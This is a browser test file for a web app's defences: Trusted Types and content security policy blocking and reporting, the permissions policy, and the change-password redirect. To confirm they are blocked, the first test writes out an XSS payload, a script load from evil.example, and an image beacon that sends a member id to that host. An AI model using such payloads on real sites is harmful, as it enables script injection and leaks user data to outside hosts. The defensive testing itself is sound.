/** The page's own protection against injected script, in a real browser. */

import { DEMO_PASSWORD, STAFF_EMAIL } from '../../src/app/demo/members/logins.ts'
import { getSecurityEvents } from '../../src/features/safety/office/contract.ts'
import { logInStaff } from '../../src/features/staff/contract.ts'
import { address, expect, ready, test, VONK } from '../support/browser/fixtures.ts'
import { Client } from '../support/client.ts'

interface FeaturePolicy {
  features(): string[]
  allowedFeatures(): string[]
}

test('[TRUST-3] text can’t become HTML or the address of a script, and the attempt is reported to the site', async ({
  browser,
}) => {
  // The browser may report as late as a minute after the attempt.
  test.setTimeout(150_000)
  const page = await browser.newPage()
  const staff = new Client(Number(process.env.VONK_TEST_PORT), VONK)
  await staff.call(logInStaff, { body: { email: STAFF_EMAIL, password: DEMO_PASSWORD } })
  const counted = async () => {
    const { sources } = await staff.call(getSecurityEvents, { query: { kind: 'policy_violated' } })
    return new Map(sources!.endpoints.map(({ endpoint, count }) => [endpoint, count]))
  }
  const before = await counted()
  await page.goto(address('/login'))
  await ready(page)
  const faults = await page.evaluate(() => {
    const faultOf = (work: () => void) => {
      try {
        work()
        return 'done'
      } catch (error) {
        return (error as Error).name
      }
    }
    return [
      faultOf(() => {
        document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'
      }),
      faultOf(() => {
        document.createElement('script').src = 'https://evil.example/x.js'
      }),
      faultOf(() => {
        const { trustedTypes } = window as unknown as {
          trustedTypes: { createPolicy(name: string, rules: object): void }
        }
        trustedTypes.createPolicy('default', { createHTML: (text: string) => text })
      }),
    ]
  })
  expect(faults).toEqual(['TypeError', 'TypeError', 'TypeError'])
  await page.evaluate(() => {
    document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/pixel?member=7' }))
  })
  await expect(async () => {
    const now = await counted()
    for (const violation of ['require-trusted-types-for trusted-types-sink', 'img-src https://evil.example'])
      expect(now.get(violation) ?? 0).toBeGreaterThan(before.get(violation) ?? 0)
  }).toPass({ timeout: 90_000 })
  await page.close()
})

test('[TRUST-3] every feature of the browser is denied except for places, copying and passkeys', async ({
  newPerson,
}) => {
  const page = await newPerson()
  const response = await page.goto(address('/login'))
  const { known, allowed } = await page.evaluate(() => {
    const { featurePolicy } = document as unknown as { featurePolicy: FeaturePolicy }
    return { known: featurePolicy.features(), allowed: featurePolicy.allowedFeatures().sort() }
  })
  expect(allowed).toEqual([
    'clipboard-write',
    'geolocation',
    'publickey-credentials-create',
    'publickey-credentials-get',
  ])
  const named = response!
    .headers()
    ['permissions-policy']!.split(', ')
    .map(each => each.split('=')[0])
  expect(known.filter(each => !named.includes(each))).toEqual([])
})

test('[AUTH-5] the well-known address for a password change leads a visitor through the login to the form', async ({
  newPerson,
}) => {
  const page = await newPerson()
  await page.goto(address('/.well-known/change-password'))
  await expect(page).toHaveURL(/\/login\?to=%2Fnotifications$/)
  await page.locator('input[name=email]').fill(`free@${VONK}`)
  await page.locator('input[name=password]').fill(DEMO_PASSWORD)
  await page.locator('input[name=password]').press('Enter')
  await expect(page.locator('input[name=old_password]')).toBeVisible()
  // Browsers use the well-known address only if the site replies 404 to an invented address like this one.
  const invented = await page.goto(
    address('/.well-known/resource-that-should-not-exist-whose-status-code-should-not-be-200'),
  )
  expect(invented?.status()).toBe(404)
})
